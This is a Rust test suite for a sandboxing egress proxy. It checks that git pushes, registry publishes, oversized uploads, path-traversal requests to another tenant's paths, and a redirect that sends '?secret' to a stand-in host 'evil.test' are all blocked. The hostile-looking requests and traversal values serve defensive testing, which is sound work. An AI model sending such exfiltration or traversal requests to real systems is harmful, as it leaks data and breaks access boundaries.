//! EXF: what an allowed host is allowed for, and no more.

use stockade_testkit::{
    Arena, Mode, Outer, Stockade,
    upstream::{Http, Response},
};

use crate::ask::{answer, each_answered, told};

/// The rules of the first endpoint; the names all lead to 192.0.2.12.
fn policy(rules: &str) -> String {
    format!(
        "version: 1\nnetwork:\n  endpoints:\n    up: {{hosts: [up.corp.test], ports: [80], private_addresses: [192.0.2.0/24]}}\n    \
         e: {{hosts: [the.corp.test], ports: [80], private_addresses: [192.0.2.0/24], {rules}}}\n"
    )
}

const ORIGIN: &str = "192.0.2.12";

fn request(method: &str, target: &str) -> String {
    format!(
        "proxy:{method} http://the.corp.test{target} HTTP/1.1\\r\\nHost: the.corp.test\\r\\nConnection: close\\r\\nContent-Length: 6\\r\\n\\r\\nsecret"
    )
}

/// Refused by `rules` with these reasons, and let through without them.
fn refused_by(rules: &str, tries: &[(String, u16, &str)], good: &[String]) {
    let arena = Arena::new(&policy(rules), "up.corp.test");
    arena.dns.host("the.corp.test", ORIGIN);
    let origin = Http::hello((ORIGIN, 80));
    let words: Vec<&str> = tries.iter().map(|(t, ..)| t.as_str()).collect();
    arena.run(&words, |mode, run| each_answered(run, tries, &format!("{mode:?}")));
    assert_eq!(origin.requests(), [], "nothing arrived");
    assert_eq!(origin.counters().bytes(), 0);
    for mode in Mode::available() {
        let run = arena.stockade(*mode).probe(good);
        assert!(good.iter().all(|t| answer(&run, t).0 == 200), "control: {mode:?} {run:?}");
    }
    let free = Stockade::new(Mode::Rootless).policy(&policy("deny: []")).probe(&words);
    for (attempt, ..) in tries.iter().filter(|(_, _, reason)| *reason == "l7") {
        assert_eq!(answer(&free, attempt).0, 200, "tripwire: without the rules: {attempt} {free:?}");
    }
}

/// EXF-01: who may fetch may not push, nor elsewhere; with git itself, and with what it and LFS would send.
#[test]
fn fetching_is_not_pushing() {
    const RULES: &str = "allow: [{methods: [GET], paths: ['/*/info/refs'], query: {service: git-upload-pack}}, \
                         {methods: [POST], paths: ['/*/git-upload-pack']}]";
    let advert = || {
        let line = format!("{} refs/heads/main\0agent=git/2\n", "1".repeat(40));
        let text = format!("001e# service=git-upload-pack\n0000{:04x}{line}0000", line.len() + 4);
        let head =
            "HTTP/1.1 200 OK\r\nContent-Type: application/x-git-upload-pack-advertisement\r\nConnection: close\r\n";
        Response::Raw(format!("{head}Content-Length: {}\r\n\r\n{text}", text.len()).into_bytes())
    };
    Outer::run(move |_| {
        let refused = [
            request("GET", "/r.git/info/refs?service=git-receive-pack"),
            request("POST", "/r.git/git-receive-pack"),
            request("POST", "/other.git/git-receive-pack"),
            request("POST", "/r.git/info/lfs/objects/batch"),
            request("PUT", "/r.git/info/lfs/objects/aa"),
            request("POST", "/r.git/git-upload-pack/../git-receive-pack"),
        ];
        let refused = refused.map(|t| (t, 403, "l7"));
        let good =
            [request("GET", "/r.git/info/refs?service=git-upload-pack"), request("POST", "/r.git/git-upload-pack")];
        refused_by(RULES, &refused, &good);
    });
    Outer::run(move |_| {
        let arena = Arena::new(&policy(RULES), "up.corp.test");
        arena.dns.host("the.corp.test", ORIGIN);
        let origin = Http::start((ORIGIN, 80), move |_| advert());
        let script = "export GIT_CONFIG_GLOBAL=/dev/null GIT_TERMINAL_PROMPT=0; git ls-remote http://the.corp.test/r.git; echo code=$?
            git init -q w && cd w && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m secret
            git push -q http://the.corp.test/r.git HEAD:refs/heads/main; echo code=$?
            git clone -q http://module.test/m.git; echo code=$?";
        for mode in Mode::available() {
            let before = origin.requests().len();
            let run = arena.stockade(*mode).sh(script);
            let text = run.text();
            assert!(
                text.contains(&format!("{}\trefs/heads/main\ncode=0\n", "1".repeat(40))),
                "control: {mode:?} {run:?}"
            );
            assert!(run.stderr.contains("403") && text.matches("code=128").count() == 2, "{mode:?} {run:?}");
            let seen: Vec<String> = origin.requests()[before..].iter().map(|r| r.target().to_owned()).collect();
            assert_eq!(seen, ["/r.git/info/refs?service=git-upload-pack"], "{mode:?} {run:?}");
            run.events.one("l7");
            assert_eq!(run.events.one("no_policy").host(), Some("module.test"), "{mode:?}");
        }
        let free = Stockade::new(Mode::Rootless).policy(&policy("deny: []")).sh(script);
        let pushed = origin.requests().iter().any(|r| r.target().ends_with("service=git-receive-pack"));
        assert!(pushed, "tripwire: without the rules git gets through: {free:?}");
    });
}

/// EXF-02: who may read a registry may not publish to it.
#[test]
fn reading_is_not_publishing() {
    let writes = [
        ("PUT", "/package"),
        ("PUT", "/-/user/org.couchdb.user:me"),
        ("POST", "/legacy/"),
        ("PUT", "/api/v1/crates/new"),
        ("DELETE", "/api/v1/crates/x/1.0.0/yank"),
        ("POST", "/v2/image/blobs/uploads/"),
        ("PATCH", "/v2/image/blobs/uploads/1"),
        ("PUT", "/v2/image/manifests/latest"),
        ("POST", "/gists"),
        ("POST", "/api/repos/create"),
        ("POST", "/api/models/me/m/commit/main"),
        ("PUT", "/upload.pypi.org/legacy/"),
        ("MKCOL", "/dav/"),
        ("OPTIONS", "/package"),
        ("post", "/legacy/"),
    ];
    Outer::run(move |_| {
        let refused = writes.map(|(method, target)| (request(method, target), 403, "l7"));
        let good = [("GET", "/package"), ("HEAD", "/v2/image/manifests/latest")].map(|(m, t)| request(m, t));
        let (known, odd): (Vec<_>, Vec<_>) = refused.into_iter().partition(|(t, ..)| !t.contains(":post "));
        refused_by("allow: [{methods: [GET, HEAD]}]", &known, &good);
        // A method in other letters is none that any rule could allow.
        let run = Stockade::new(Mode::Rootless).policy(&policy("allow: [{methods: [GET, HEAD]}]")).probe(&[&odd[0].0]);
        each_answered(&run, &odd, "in other letters");
    });
}

/// EXF-03: a bound on what a request may carry holds with and without a length, for each request by itself.
#[test]
fn an_upload_ends_at_its_bound() {
    const BOUND: u64 = 1 << 20;
    let script =
        "u() { name=$1; shift; code=$(curl -s -m 30 -o out -w '%{http_code}' -X POST \"$@\" http://the.corp.test/up)
            echo \"$name $code $(grep -o '\"reason\":\"[a-z0-9_]*\"' out | cut -d'\"' -f4)\"; : > out; }
        head -c 1000000 /dev/zero > small; head -c 1048577 /dev/zero > over
        u first -T small; u second -T small; head -c 1000000 /dev/zero | u streamed -T -; u over -T over
        head -c 1000000000 /dev/zero | u endless -T -
        u announced -H 'Content-Length: 1000000000' -H 'Expect: 100-continue' --data-binary @small";
    Outer::run(move |_| {
        let bounded = policy("limits: {request_body: 1MiB}");
        let arena = Arena::new(&bounded, "up.corp.test");
        arena.dns.host("the.corp.test", ORIGIN);
        let origin = Http::hello((ORIGIN, 80));
        for mode in Mode::available() {
            let (before, bytes) = (origin.requests().len(), origin.counters().bytes());
            let run = arena.stockade(*mode).timeout(std::time::Duration::from_secs(60)).sh(script);
            let text = run.text();
            let want = "first 200 \nsecond 200 \nstreamed 200 \nover 413 tx_limit\nendless 413 tx_limit\nannounced 413 tx_limit\n";
            assert_eq!(text, want, "{mode:?} {run:?}");
            assert_eq!(told(&run, "tx_limit"), 3, "{mode:?} {run:?}");
            assert_eq!(origin.requests().len(), before + 3, "only the controls are complete: {mode:?}");
            let most = 3 * 1_000_000 + BOUND + 64 * 1024;
            assert!(origin.counters().bytes() - bytes <= most, "cut at the bound: {mode:?}");
        }
        let free = Stockade::new(Mode::Rootless).policy(&policy("deny: []"));
        let (whole, _) = script.rsplit_once('\n').unwrap();
        let run = free.sh(&whole.replace("1000000000", "3000000"));
        assert_eq!(run.text().matches(" 200 ").count(), 5, "tripwire: without the bound they pass: {run:?}");
        assert!(origin.requests().iter().any(|r| r.body.len() as u64 > 2 * BOUND), "tripwire: whole");
    });
}

/// EXF-04: another tenant of the same host is another path or another name.
#[test]
fn another_tenant_is_another_path_or_name() {
    Outer::run(|_| {
        let refused = [
            (request("PUT", "/theirs/key"), 403, "l7"),
            (request("GET", "/mine2/key"), 403, "l7"),
            (request("PUT", "/mine/../theirs/key"), 403, "l7"),
            (request("PUT", "/mine/%2e%2e/theirs/key"), 403, "l7"),
            (request("PUT", "//theirs/key"), 403, "l7"),
            (request("PUT", "/Mine/key"), 403, "l7"),
            (request("PUT", "/mine%2f..%2ftheirs/key"), 400, "path"),
            (
                request("PUT", "/mine/key").replace("//the.", "//theirs.the.").replace(" the.", " theirs.the."),
                403,
                "no_policy",
            ),
            (request("PUT", "/mine/key").replace("Host: the.", "Host: theirs."), 421, "authority_mismatch"),
        ];
        refused_by("allow: [{paths: [/mine/**]}]", &refused, &[request("PUT", "/mine/key"), request("GET", "/mine")]);
    });
}

/// EXF-05: a host that fetches for others is a residual (docs/threat-model.md); the door itself follows nothing, and what
/// it is asked for is in the log.
#[test]
fn what_an_allowed_host_fetches_is_its_own_doing() {
    Outer::run(|_| {
        let arena = Arena::new(&policy("deny: []"), "up.corp.test");
        arena.dns.host("the.corp.test", ORIGIN);
        arena.dns.host("evil.test", "192.0.2.66");
        let evil = Http::hello("192.0.2.66:80");
        let moved = "HTTP/1.1 302 Found\r\nLocation: http://evil.test/?secret\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
        let _origin = Http::start((ORIGIN, 80), move |_| Response::Raw(moved.into()));
        let follow = "curl -sS -L -o /dev/null -w '%{http_code}\\n' 'http://the.corp.test/go?url=http://evil.test/'";
        for mode in Mode::available() {
            let run = arena.stockade(*mode).sh(follow);
            assert_eq!(run.text(), "403\n", "{mode:?} {run:?}");
            assert_eq!(run.events.one("no_policy").host(), Some("evil.test"), "{mode:?}");
            let asked = run.events.iter().any(|e| e.host() == Some("the.corp.test") && e.action() == Some("allowed"));
            assert!(asked, "control: {mode:?} {run:?}");
        }
        evil.counters().assert_untouched();
        assert_eq!(arena.dns.count("evil.test"), 0);
        let bare = Stockade::new(Mode::Rootless).unwrapped().sh(follow);
        assert_eq!(evil.requests().len(), 1, "tripwire: a client by itself follows: {bare:?}");
    });
}
